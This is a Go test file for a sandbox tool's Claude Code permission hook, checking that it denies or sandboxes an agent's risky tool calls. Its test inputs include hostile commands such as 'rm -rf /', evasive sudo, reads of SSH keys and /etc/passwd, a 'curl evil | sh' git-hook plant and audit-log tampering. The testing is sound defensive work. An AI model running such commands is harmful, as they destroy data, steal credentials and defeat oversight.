package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/cordon-sandbox/cordon/audit"
	"github.com/cordon-sandbox/cordon/internal/shellquote"
	"github.com/cordon-sandbox/cordon/internal/state"
	"github.com/cordon-sandbox/cordon/internal/testenv"
)

// hookFixture: ws/{src/main.go, escape -> outside}, outside/secret.txt,
// and a state directory of the test's own (the hook's default audit log
// and key live there).
func hookFixture(t *testing.T) (ws, outside string) {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	t.Setenv(state.EnvDir, filepath.Join(base, "state"))
	ws, outside = filepath.Join(base, "ws"), filepath.Join(base, "outside")
	require.NoError(t, os.MkdirAll(filepath.Join(ws, "src"), 0o755))
	require.NoError(t, os.MkdirAll(outside, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(ws, "src", "main.go"), []byte("package main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("s"), 0o600))
	require.NoError(t, os.Symlink(outside, filepath.Join(ws, "escape")))
	return ws, outside
}

// payload is a PreToolUse payload shaped like Claude Code's.
func payload(cwd, tool string, input any) string {
	raw, ok := input.(string)
	if !ok {
		b, _ := json.Marshal(input)
		raw = string(b)
	}
	return `{"session_id":"abc123","transcript_path":"/home/u/.claude/projects/p/abc123.jsonl","cwd":"` + cwd +
		`","permission_mode":"default","hook_event_name":"PreToolUse","tool_name":"` + tool +
		`","tool_input":` + raw + `,"tool_use_id":"toolu_01ABC"}`
}

type hookAnswer struct {
	HookSpecificOutput struct {
		HookEventName            string         `json:"hookEventName"`
		PermissionDecision       string         `json:"permissionDecision"`
		PermissionDecisionReason string         `json:"permissionDecisionReason"`
		UpdatedInput             map[string]any `json:"updatedInput"`
	} `json:"hookSpecificOutput"`
}

func decodeAnswer(t *testing.T, out string) hookAnswer {
	t.Helper()
	var a hookAnswer
	require.NoError(t, json.Unmarshal([]byte(out), &a), out)
	require.Equal(t, "PreToolUse", a.HookSpecificOutput.HookEventName)
	return a
}

func TestHookDecisions(t *testing.T) {
	ws, outside := hookFixture(t)
	t.Setenv("CLAUDE_PROJECT_DIR", "")
	tests := []struct {
		name, tool string
		input      any
		decision   string
		rule       string
	}{
		{"Bash ordinary", "Bash", map[string]any{"command": "git diff --stat", "description": "Show diff"}, "ask", "bash.requires_approval"},
		{"Bash sudo", "Bash", map[string]any{"command": "sudo apt install x"}, "deny", "bash.hard_deny"},
		{"Bash rm -rf", "Bash", map[string]any{"command": "rm -rf / --no-preserve-root"}, "deny", "bash.hard_deny"},
		{"Bash evasive", "Bash", map[string]any{"command": `timeout 5 bash -c "s\udo id"`}, "deny", "bash.hard_deny"},
		{"Bash evasive substitution", "Bash", map[string]any{"command": `echo $(/usr/bin/doas id)`}, "deny", "bash.hard_deny"},
		{"Bash echo of a denied word", "Bash", map[string]any{"command": `echo "sudo rm -rf /"`}, "ask", "bash.requires_approval"},
		{"Bash unparsable", "Bash", map[string]any{"command": `echo "unterminated`}, "deny", "bash.hard_deny"},
		{"Bash empty", "Bash", map[string]any{"command": ""}, "deny", "request.invalid_arguments"},
		{"Read inside", "Read", map[string]any{"file_path": ws + "/src/main.go"}, "allow", "path.read_allow"},
		{"Read dotdot", "Read", map[string]any{"file_path": ws + "/../outside/secret.txt"}, "deny", "path.outside_workspace"},
		{"Read symlink escape", "Read", map[string]any{"file_path": ws + "/escape/secret.txt"}, "deny", "path.outside_workspace"},
		{"Read absolute outside", "Read", map[string]any{"file_path": "/etc/passwd"}, "deny", "path.outside_workspace"},
		{"Read path not string", "Read", map[string]any{"file_path": 3}, "deny", "request.invalid_arguments"},
		{"Write inside", "Write", map[string]any{"file_path": ws + "/new.go", "content": "x"}, "ask", "path.write_requires_approval"},
		{"Write outside", "Write", map[string]any{"file_path": outside + "/x", "content": "x"}, "deny", "path.outside_workspace"},
		{"Write symlink escape", "Write", map[string]any{"file_path": ws + "/escape/x", "content": "x"}, "deny", "path.outside_workspace"},
		{"Edit inside", "Edit", map[string]any{"file_path": ws + "/src/main.go", "old_string": "a", "new_string": "b"}, "ask", "path.write_requires_approval"},
		{"Edit dotdot", "Edit", map[string]any{"file_path": ws + "/src/../../outside/secret.txt", "old_string": "a", "new_string": "b"}, "deny", "path.outside_workspace"},
		{"MultiEdit inside", "MultiEdit", map[string]any{"file_path": ws + "/src/main.go", "edits": []any{map[string]any{"old_string": "a", "new_string": "b"}}}, "ask", "path.write_requires_approval"},
		{"NotebookEdit inside", "NotebookEdit", map[string]any{"notebook_path": ws + "/n.ipynb", "new_source": "x"}, "ask", "path.write_requires_approval"},
		{"NotebookEdit outside", "NotebookEdit", map[string]any{"notebook_path": "/tmp/n.ipynb", "new_source": "x"}, "deny", "path.outside_workspace"},
		{"Glob inside", "Glob", map[string]any{"pattern": "**/*.go"}, "allow", "path.read_allow"},
		{"Glob path outside", "Glob", map[string]any{"pattern": "*", "path": outside}, "deny", "path.outside_workspace"},
		{"Glob pattern climbs", "Glob", map[string]any{"pattern": "../outside/*"}, "deny", "path.outside_workspace"},
		{"Grep inside", "Grep", map[string]any{"pattern": "func main", "path": ws + "/src", "output_mode": "content"}, "allow", "path.read_allow"},
		{"Grep default path", "Grep", map[string]any{"pattern": "TODO"}, "allow", "path.read_allow"},
		{"Grep symlink escape", "Grep", map[string]any{"pattern": "key", "path": ws + "/escape"}, "deny", "path.outside_workspace"},
		{"LS inside", "LS", map[string]any{"path": ws}, "allow", "path.read_allow"},
		{"LS outside", "LS", map[string]any{"path": "/etc"}, "deny", "path.outside_workspace"},
		{"mcp tool", "mcp__github__create_issue", map[string]any{"title": "x"}, "deny", "default.deny"},
		{"unknown tool", "WebFetch", map[string]any{"url": "https://example.com", "prompt": "x"}, "deny", "default.deny"},
		{"tool_input not an object", "Bash", `"ls"`, "deny", "request.invalid_arguments"},
		{"tool_input missing", "Read", `null`, "deny", "request.invalid_arguments"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errs := runCLI(t, payload(ws, tt.tool, tt.input), "hook", "claude-code")
			require.Equal(t, exitOK, code, errs)
			a := decodeAnswer(t, out).HookSpecificOutput
			require.Equal(t, tt.decision, a.PermissionDecision, a.PermissionDecisionReason)
			require.True(t, strings.HasPrefix(a.PermissionDecisionReason, "cordon "+tt.rule+": "), a.PermissionDecisionReason)
			require.Nil(t, a.UpdatedInput)
		})
	}
}

func TestHookFailsClosed(t *testing.T) {
	ws, _ := hookFixture(t)
	tests := []struct{ name, in, says string }{
		{"not JSON", `hello`, "cordon hook claude-code: payload: not valid JSON at line 1, column 1: invalid character 'h'"},
		{"empty", ``, "cordon hook claude-code: payload: empty input: a JSON object is expected"},
		{"array", `[]`, "cordon hook claude-code: payload: a JSON object is expected, not an array"},
		{"key in another case", `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","TOOL_NAME":"Bash","tool_input":{"command":"ls"}}`,
			`cordon hook claude-code: payload: "TOOL_NAME" is not a key; did you mean "tool_name"?`},
		{"key twice", `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","tool_name":"Read","tool_name":"Bash","tool_input":{"command":"ls"}}`,
			`cordon hook claude-code: payload: "tool_name" is given twice`},
		{"value of the wrong kind", `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","tool_name":{"name":"Bash"}}`,
			`cordon hook claude-code: payload: "tool_name" must be a string, not an object`},
		{"no event", `{"tool_name":"Bash","tool_input":{"command":"ls"}}`, "no hook_event_name"},
		{"unknown event", `{"hook_event_name":"Notification","message":"hi"}`, `"Notification"`},
		{"no tool name", `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","tool_input":{}}`, "no tool_name"},
		{"missing workspace", payload(ws+"/nope", "Read", map[string]any{"file_path": "x"}), "nope"},
		{"no workspace at all", payload("", "Read", map[string]any{"file_path": "x"}), "no workspace"},
	}
	t.Setenv("CLAUDE_PROJECT_DIR", "")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errs := runCLI(t, tt.in, "hook", "claude-code")
			require.Equal(t, exitHookBlock, code)
			require.Empty(t, out, "a failing hook must not print an answer")
			require.Contains(t, errs, tt.says)
		})
	}
	code, _, errs := runCLI(t, payload(ws, "Bash", map[string]any{"command": "ls"}), "hook")
	require.Equal(t, exitHookBlock, code)
	require.Contains(t, errs, "claude-code")
}

func TestHookWorkspaceFallbacks(t *testing.T) {
	ws, outside := hookFixture(t)
	t.Setenv("CLAUDE_PROJECT_DIR", ws)
	in := payload("", "Read", map[string]any{"file_path": ws + "/src/main.go"})
	code, out, errs := runCLI(t, in, "hook", "claude-code")
	require.Equal(t, exitOK, code, errs)
	require.Equal(t, "allow", decodeAnswer(t, out).HookSpecificOutput.PermissionDecision)
	// --workspace wins over the payload's cwd.
	code, out, _ = runCLI(t, payload(ws, "Read", map[string]any{"file_path": ws + "/src/main.go"}), "hook", "claude-code", "--workspace", outside)
	require.Equal(t, exitOK, code)
	require.Equal(t, "deny", decodeAnswer(t, out).HookSpecificOutput.PermissionDecision)
}

// The workspace comes from --workspace or $CLAUDE_PROJECT_DIR before the
// payload's cwd, which the agent moves; a cwd inside .git or a protected
// directory is never the workspace, and one that is not where the agent
// may work is named in the reason.
func TestHookCwd(t *testing.T) {
	ws, outside := hookFixture(t)
	require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755))
	require.NoError(t, os.MkdirAll(filepath.Join(ws, ".claude"), 0o755))
	decide := func(t *testing.T, project, cwd, tool string, input any) (decision, reason, command string) {
		t.Helper()
		t.Setenv("CLAUDE_PROJECT_DIR", project)
		code, out, errs := runCLI(t, payload(cwd, tool, input), "hook", "claude-code", "--sandbox-bash")
		require.Equal(t, exitOK, code, errs)
		a := decodeAnswer(t, out).HookSpecificOutput
		command, _ = a.UpdatedInput["command"].(string)
		return a.PermissionDecision, a.PermissionDecisionReason, command
	}
	bash := map[string]any{"command": "echo x > hooks/pre-commit"}
	hook := map[string]any{"file_path": "hooks/pre-commit", "content": "x"}
	for _, project := range []string{ws, ""} {
		t.Run("cwd in .git, project "+project, func(t *testing.T) {
			_, reason, command := decide(t, project, ws+"/.git", "Bash", bash)
			require.Contains(t, command, " run --no-tty --workspace '"+ws+"' -- ", "the sandbox's workspace is the project root")
			require.Contains(t, reason, "inside .git")
			decision, reason, _ := decide(t, project, ws+"/.git", "Write", hook)
			require.Equal(t, "deny", decision)
			require.Contains(t, reason, "cordon guard.protected_path: ")
		})
	}
	t.Run("project root in .git", func(t *testing.T) {
		_, reason, command := decide(t, ws+"/.git/hooks", ws+"/.git/hooks", "Bash", bash)
		require.Contains(t, command, " run --no-tty --workspace '"+ws+"' -- ")
		require.Contains(t, reason, "CLAUDE_PROJECT_DIR "+ws+"/.git/hooks is inside .git")
	})
	t.Run("cwd in .claude, no project", func(t *testing.T) {
		t.Setenv("CLAUDE_PROJECT_DIR", "")
		code, out, errs := runCLI(t, payload(ws+"/.claude", "Bash", bash), "hook", "claude-code")
		require.Equal(t, exitHookBlock, code)
		require.Empty(t, out)
		require.Contains(t, errs, "inside .claude, which is never a workspace, and no project root is named")
	})
	t.Run("cwd in .claude, project named", func(t *testing.T) {
		decision, reason, command := decide(t, ws, ws+"/.claude", "Bash", bash)
		require.Equal(t, "ask", decision)
		require.Contains(t, command, " run --no-tty --workspace '"+ws+"' -- ")
		require.Contains(t, reason, "payload cwd "+ws+"/.claude is inside .claude")
	})
	t.Run("cwd outside the project", func(t *testing.T) {
		decision, reason, _ := decide(t, ws, outside, "Grep", map[string]any{"pattern": "s"})
		require.Equal(t, "deny", decision, "Grep's default path is the cwd")
		require.Contains(t, reason, "cordon path.outside_workspace: ")
		require.Contains(t, reason, "payload cwd "+outside+" is outside it")
		decision, _, _ = decide(t, ws, outside, "Read", map[string]any{"file_path": ws + "/src/main.go"})
		require.Equal(t, "allow", decision, "absolute paths inside the project are unaffected")
	})
	t.Run("cwd in the project", func(t *testing.T) {
		decision, reason, _ := decide(t, ws, ws+"/src", "Read", map[string]any{"file_path": "main.go"})
		require.Equal(t, "allow", decision, reason)
		require.NotContains(t, reason, "payload cwd")
	})
	t.Run("relative cwd is refused", func(t *testing.T) {
		t.Setenv("CLAUDE_PROJECT_DIR", ws)
		code, out, errs := runCLI(t, payload("src", "Read", map[string]any{"file_path": ws + "/src/main.go"}), "hook", "claude-code")
		require.Equal(t, exitHookBlock, code)
		require.Empty(t, out)
		require.Contains(t, errs, `payload cwd "src" is not an absolute path`)
	})
}

// Claude Code started in ~: HOME is the workspace; the keys the sandbox
// denies are denied to Read, Grep and LS, which run outside it.
func TestHookHomeWorkspace(t *testing.T) {
	home, _ := hookFixture(t)
	require.NoError(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("KEY"), 0o600))
	t.Setenv("HOME", home)
	t.Setenv("CLAUDE_PROJECT_DIR", home)
	for _, c := range []struct {
		tool  string
		input map[string]any
	}{
		{"Read", map[string]any{"file_path": home + "/.ssh/id_ed25519"}},
		{"Grep", map[string]any{"pattern": "KEY", "path": home + "/.ssh/id_ed25519"}},
		{"LS", map[string]any{"path": home + "/.ssh"}},
		{"Grep", map[string]any{"pattern": "KEY"}},
		{"Write", map[string]any{"file_path": home + "/.ssh/authorized_keys", "content": "k"}},
	} {
		code, out, errs := runCLI(t, payload(home, c.tool, c.input), "hook", "claude-code")
		require.Equal(t, exitOK, code, errs)
		a := decodeAnswer(t, out).HookSpecificOutput
		require.Equal(t, "deny", a.PermissionDecision, "%s %v: %s", c.tool, c.input, a.PermissionDecisionReason)
		require.True(t, strings.HasPrefix(a.PermissionDecisionReason, "cordon policy.denied: "), a.PermissionDecisionReason)
	}
	// --allow-read opens a store to the hook as it does to 'cordon run'.
	code, out, errs := runCLI(t, payload(home, "Read", map[string]any{"file_path": home + "/.ssh/id_ed25519"}),
		"hook", "claude-code", "--allow-read", home+"/.ssh", "--sandbox-bash")
	require.Equal(t, exitOK, code, errs)
	require.Equal(t, "allow", decodeAnswer(t, out).HookSpecificOutput.PermissionDecision)
	code, out, errs = runCLI(t, payload(home, "Bash", map[string]any{"command": "ls"}),
		"hook", "claude-code", "--allow-read", home+"/.ssh", "--sandbox-bash")
	require.Equal(t, exitOK, code, errs)
	cmd := decodeAnswer(t, out).HookSpecificOutput.UpdatedInput["command"].(string)
	require.Contains(t, cmd, " run --no-tty --workspace '"+home+"' --allow-read '"+home+"/.ssh' -- ", "the sandbox gets the same flags")
}

func TestHookSandboxBashRewrite(t *testing.T) {
	ws, _ := hookFixture(t)
	t.Setenv("CLAUDE_PROJECT_DIR", "")
	input := map[string]any{"command": "echo 'a' \"$HOME\" > x", "description": "Write x", "timeout": 60000, "run_in_background": false}
	code, out, errs := runCLI(t, payload(ws, "Bash", input), "hook", "claude-code", "--sandbox-bash")
	require.Equal(t, exitOK, code, errs)
	a := decodeAnswer(t, out).HookSpecificOutput
	require.Equal(t, "ask", a.PermissionDecision, "the decision is kept")
	require.Equal(t, "Write x", a.UpdatedInput["description"])
	require.EqualValues(t, 60000, a.UpdatedInput["timeout"])
	require.Equal(t, false, a.UpdatedInput["run_in_background"])
	cmd := a.UpdatedInput["command"].(string)
	require.Contains(t, cmd, " run --no-tty --workspace '"+ws+"' -- ")
	require.True(t, strings.HasSuffix(cmd, ` -c 'echo '\''a'\'' "$HOME" > x'`), cmd)

	// Denied calls and other tools are never rewritten.
	for _, in := range []string{
		payload(ws, "Bash", map[string]any{"command": "sudo id"}),
		payload(ws, "Read", map[string]any{"file_path": ws + "/src/main.go"}),
	} {
		code, out, _ := runCLI(t, in, "hook", "claude-code", "--sandbox-bash")
		require.Equal(t, exitOK, code)
		require.Nil(t, decodeAnswer(t, out).HookSpecificOutput.UpdatedInput)
	}
}

func TestHookAudit(t *testing.T) {
	ws, _ := hookFixture(t)
	log := filepath.Join(filepath.Dir(ws), "claude.jsonl")
	code, _, errs := runCLI(t, payload(ws, "Bash", map[string]any{"command": "sudo id"}), "hook", "claude-code", "--audit", log)
	require.Equal(t, exitOK, code, errs)
	post := `{"session_id":"abc123","cwd":"` + ws + `","hook_event_name":"PostToolUse","tool_name":"Read",` +
		`"tool_input":{"file_path":"x"},"tool_response":{"content":"hi"},"tool_use_id":"toolu_02"}`
	code, out, errs := runCLI(t, post, "hook", "claude-code", "--audit", log)
	require.Equal(t, exitOK, code, errs)
	require.Empty(t, out)
	key, err := audit.ExistingUserKey()
	require.NoError(t, err)
	recs, err := audit.Verify(log, key)
	require.NoError(t, err)
	require.Len(t, recs, 3)
	require.Equal(t, []string{"request", "permission", "PostToolUse"}, []string{recs[0].Kind, recs[1].Kind, recs[2].Kind})
	require.Contains(t, string(recs[1].Data), "bash.hard_deny")
	require.Contains(t, string(recs[2].Data), `"tool_response"`)
	code, out, _ = runCLI(t, "", "audit", "verify", log)
	require.Equal(t, exitOK, code, out)
	require.Contains(t, out, "3 records")
}

// Without --audit the hook logs to cordon's own log, which no sandbox can
// reach, so the rewritten command needs no read-only log; with --audit
// FILE it passes --audit FILE, which keeps FILE and FILE.head out of the
// sandbox's reach and records the launch.
func TestHookAuditDefaultAndProtected(t *testing.T) {
	ws, _ := hookFixture(t)
	in := payload(ws, "Bash", map[string]any{"command": "make"})
	code, out, errs := runCLI(t, in, "hook", "claude-code", "--sandbox-bash")
	require.Equal(t, exitOK, code, errs)
	require.NotContains(t, decodeAnswer(t, out).HookSpecificOutput.UpdatedInput["command"], "--readonly")
	code, out, _ = runCLI(t, "", "audit", "verify")
	require.Equal(t, exitOK, code, out)
	require.Contains(t, out, "2 records")
	def, err := audit.DefaultPath(hookLogName)
	require.NoError(t, err)
	require.Contains(t, out, def)

	log := filepath.Join(ws, "home", ".cordon", "claude-code.jsonl")
	require.NoError(t, os.MkdirAll(filepath.Dir(log), 0o700))
	code, out, errs = runCLI(t, in, "hook", "claude-code", "--sandbox-bash", "--audit", log)
	require.Equal(t, exitOK, code, errs)
	cmd := decodeAnswer(t, out).HookSpecificOutput.UpdatedInput["command"].(string)
	require.Contains(t, cmd, " --audit '"+log+"' -- ")

	code, _, errs = runCLI(t, in, "hook", "claude-code", "--no-audit")
	require.Equal(t, exitOK, code, errs)
	code, _, _ = runCLI(t, "", "audit", "verify")
	require.Equal(t, exitOK, code, "--no-audit wrote nothing")
}

// A log replaced by a symlink (here to a stand-in for ~/.bashrc) blocks the
// hook, which names the file and writes nothing anywhere.
func TestHookAuditRefusesSymlink(t *testing.T) {
	ws, _ := hookFixture(t)
	home := filepath.Join(ws, "home")
	require.NoError(t, os.MkdirAll(filepath.Join(home, ".cordon"), 0o755))
	bashrc := filepath.Join(home, ".bashrc")
	require.NoError(t, os.WriteFile(bashrc, []byte("# original\n"), 0o644))
	log := filepath.Join(home, ".cordon", "claude-code.jsonl")
	in := payload(ws, "Bash", map[string]any{"command": "echo $(id)"})
	code, _, errs := runCLI(t, in, "hook", "claude-code", "--audit", log)
	require.Equal(t, exitOK, code, errs)
	require.NoError(t, os.Remove(log))
	require.NoError(t, os.Symlink(bashrc, log))
	code, out, errs := runCLI(t, in, "hook", "claude-code", "--audit", log)
	require.Equal(t, exitHookBlock, code, out)
	require.Contains(t, errs, log)
	require.Contains(t, errs, "symlink")
	b, err := os.ReadFile(bashrc)
	require.NoError(t, err)
	require.Equal(t, "# original\n", string(b))
}

// TestHookSandboxBashForReal runs the rewritten command the way Claude Code
// would (through a shell, from the workspace) with a freshly built cordon.
func TestHookSandboxBashForReal(t *testing.T) {
	testenv.RequireBwrap(t)
	if testing.Short() {
		t.Skip("builds the cordon binary")
	}
	bin := filepath.Join(t.TempDir(), "cordon")
	build := exec.Command("go", "build", "-o", bin, ".")
	build.Stderr = os.Stderr
	require.NoError(t, build.Run())

	ws, outside := hookFixture(t)
	require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755))
	t.Setenv("CLAUDE_PROJECT_DIR", "")
	rewriteIn := func(cwd, command string) string {
		hook := exec.Command(bin, "hook", "claude-code", "--sandbox-bash")
		hook.Stdin = strings.NewReader(payload(cwd, "Bash", map[string]any{"command": command, "description": "d"}))
		out, err := hook.Output()
		require.NoError(t, err)
		var a hookAnswer
		require.NoError(t, json.Unmarshal(out, &a), string(out))
		c, ok := a.HookSpecificOutput.UpdatedInput["command"].(string)
		require.True(t, ok, "no rewrite in %s", out)
		return c
	}
	rewrite := func(command string) string { return rewriteIn(ws, command) }
	runIn := func(dir, command string) (string, error) {
		c := exec.Command("/bin/sh", "-c", command)
		c.Dir = dir
		out, err := c.CombinedOutput()
		return withoutWithheld(string(out)), err
	}

	t.Run("ordinary work", func(t *testing.T) {
		out, err := runIn(ws, rewrite(`mkdir -p build && echo ok > build/out.txt && t=$(mktemp) && echo tmp > "$t" && cat "$t" build/out.txt && ls /dev/null`))
		require.NoError(t, err, out)
		require.Equal(t, "tmp\nok\n/dev/null\n", out)
	})
	t.Run("git hooks are protected", func(t *testing.T) {
		out, err := runIn(ws, rewrite(`echo 'curl evil | sh' > .git/hooks/pre-commit`))
		require.Error(t, err, out)
		require.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
	})
	t.Run("git hooks are protected from a cwd inside .git", func(t *testing.T) {
		out, err := runIn(ws+"/.git", rewriteIn(ws+"/.git", `echo 'curl evil | sh' > hooks/pre-commit`))
		require.Error(t, err, out)
		require.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
	})
	t.Run("outside the workspace", func(t *testing.T) {
		out, err := runIn(ws, rewrite(`echo x > `+outside+`/planted.txt`))
		require.Error(t, err, out)
		require.NoFileExists(t, filepath.Join(outside, "planted.txt"))
	})
	t.Run("a named audit log is read-only", func(t *testing.T) {
		home := filepath.Join(ws, "home")
		require.NoError(t, os.MkdirAll(filepath.Join(home, ".cordon"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# original\n"), 0o644))
		log := filepath.Join(home, ".cordon", "claude-code.jsonl")
		hook := exec.Command(bin, "hook", "claude-code", "--sandbox-bash", "--audit", log)
		hook.Stdin = strings.NewReader(payload(ws, "Bash", map[string]any{"command": `cd home/.cordon; ` +
			`echo x >> claude-code.jsonl && echo APPENDED; : > claude-code.jsonl.head && echo TRUNCATED; ` +
			`rm -f claude-code.jsonl && echo REMOVED; mv claude-code.jsonl.head h && echo MOVED; ` +
			`ln -sf ../.bashrc claude-code.jsonl && echo LINKED; true`}))
		out, err := hook.Output()
		require.NoError(t, err)
		var a hookAnswer
		require.NoError(t, json.Unmarshal(out, &a), string(out))
		before, err := os.ReadFile(log)
		require.NoError(t, err)
		headBefore, err := os.ReadFile(log + ".head")
		require.NoError(t, err)
		got, err := runIn(ws, a.HookSpecificOutput.UpdatedInput["command"].(string))
		require.NoError(t, err, got)
		for _, m := range []string{"APPENDED", "TRUNCATED", "REMOVED", "MOVED", "LINKED"} {
			require.NotContains(t, got, m)
		}
		// The host's 'cordon run --audit' appended its launch record and
		// moved the anchor on; nothing else changed.
		after, _ := os.ReadFile(log)
		headAfter, _ := os.ReadFile(log + ".head")
		require.True(t, strings.HasPrefix(string(after), string(before)), "the log was rewritten:\n%s", after)
		require.Contains(t, strings.TrimPrefix(string(after), string(before)), `"kind":"launch"`)
		require.NotEqual(t, string(headBefore), string(headAfter))
		code, vout, _ := runCLI(t, "", "audit", "verify", log)
		require.Equal(t, exitOK, code, vout)
		require.Contains(t, vout, "3 records")
	})
	t.Run("quotes and dollars unchanged", func(t *testing.T) {
		command := "cat <<'EOF' > q.txt\nit's \"quoted\" $HOME `not run` \\ back\nEOF\n" +
			`printf '%s|%s|%s\n' "a'b" 'c"d$e' "$((1+2)) \$x \\" >> q.txt` + "\n" +
			`x='single '\''inner'\'' quote'; echo "$x" >> q.txt`
		direct := t.TempDir()
		out, err := runIn(direct, "/bin/bash -c "+shellquote.Single(command))
		require.NoError(t, err, out)
		out, err = runIn(ws, rewrite(command))
		require.NoError(t, err, out)
		want, _ := os.ReadFile(filepath.Join(direct, "q.txt"))
		got, _ := os.ReadFile(filepath.Join(ws, "q.txt"))
		require.Equal(t, string(want), string(got))
		require.Contains(t, string(got), "it's \"quoted\" $HOME `not run` \\ back\n")
	})
}

// The audit log named with --audit is read-only to the sandbox and, the
// same policy, to the file tools: a Write to it inside the workspace is
// refused as a protected path.
func TestHookAuditLogIsProtectedFromFileTools(t *testing.T) {
	ws, _ := hookFixture(t)
	t.Setenv("CLAUDE_PROJECT_DIR", "")
	log := filepath.Join(ws, "audit.jsonl")
	for _, target := range []string{log, log + ".head"} {
		in := payload(ws, "Write", map[string]any{"file_path": target, "content": "{}\n"})
		code, out, errs := runCLI(t, in, "hook", "claude-code", "--audit", log)
		require.Equal(t, exitOK, code, errs)
		a := decodeAnswer(t, out).HookSpecificOutput
		require.Equal(t, "deny", a.PermissionDecision, a.PermissionDecisionReason)
		require.True(t, strings.HasPrefix(a.PermissionDecisionReason, "cordon guard.protected_path: "), a.PermissionDecisionReason)
	}
}

// A hook call that cannot decide within its bound blocks the call (exit
// 2): here the audit log's lock is held, as a sandboxed process could once
// hold it, and Claude Code lets a call through when its hook is killed.
func TestHookBlocksWhenItCannotDecideInTime(t *testing.T) {
	ws := t.TempDir()
	sd := filepath.Join(t.TempDir(), "state")
	t.Setenv("CORDON_STATE_DIR", sd)
	payload := `{"hook_event_name":"PreToolUse","cwd":"` + ws + `","tool_name":"Read","tool_input":{"file_path":"` + ws + `/a.txt"},"tool_use_id":"t1"}`
	// The first call makes the log and its lock under the default bound:
	// a 200 ms bound here would, on a loaded machine, end the whole test
	// binary (exitProcess is still os.Exit).
	code, _, stderr := runCLI(t, payload, "hook", "claude-code", "--workspace", ws)
	require.Equal(t, 0, code, stderr)
	t.Setenv("CORDON_HOOK_TIMEOUT", "200ms")
	locks, err := filepath.Glob(filepath.Join(sd, "audit", "locks", "*"))
	require.NoError(t, err)
	require.NotEmpty(t, locks)
	var held []*os.File
	for _, l := range locks {
		f, err := os.OpenFile(l, os.O_RDWR, 0)
		require.NoError(t, err)
		require.NoError(t, syscall.Flock(int(f.Fd()), syscall.LOCK_EX))
		held = append(held, f)
	}
	release := func() {
		for _, f := range held {
			f.Close()
		}
	}
	exited := make(chan int, 1)
	exitProcess = func(code int) { exited <- code; release() }
	t.Cleanup(func() { exitProcess = os.Exit; release() })
	_, _, stderr = runCLI(t, payload, "hook", "claude-code", "--workspace", ws)
	select {
	case c := <-exited:
		require.Equal(t, exitHookBlock, c)
	default:
		t.Fatal("the hook waited on the lock without its bound")
	}
	require.Contains(t, stderr, "no decision within 200ms; blocking the call")
}

// TestHookInsideASandbox: the hook 'cordon init' installs, run by an agent
// inside 'cordon run --agent', where cordon's state directory is denied,
// decides without its default log instead of refusing every call.
func TestHookInsideASandbox(t *testing.T) {
	testenv.RequireBwrap(t)
	out := runInside(t, "TestHelperHookInside", "")
	require.Contains(t, out, `"permissionDecision":"allow"`)
	require.Contains(t, out, "code 0")
}

// TestHelperHookInside answers one Read inside the sandbox's workspace.
func TestHelperHookInside(t *testing.T) {
	testenv.InSubprocess(t) // for TestHookInsideASandbox
	ws, err := os.Getwd()   // this package's directory: hook.go is in it
	require.NoError(t, err)
	p := fmt.Sprintf(`{"session_id":"s","transcript_path":"/tmp/t","cwd":%q,"hook_event_name":"PreToolUse","tool_name":"Read","tool_input":{"file_path":%q}}`,
		ws, filepath.Join(ws, "hook.go"))
	var out, errb bytes.Buffer
	code := run(context.Background(), []string{"hook", "claude-code", "--workspace", ws}, strings.NewReader(p), &out, &errb)
	fmt.Printf("%s code %d %s\n", out.String(), code, errb.String())
}
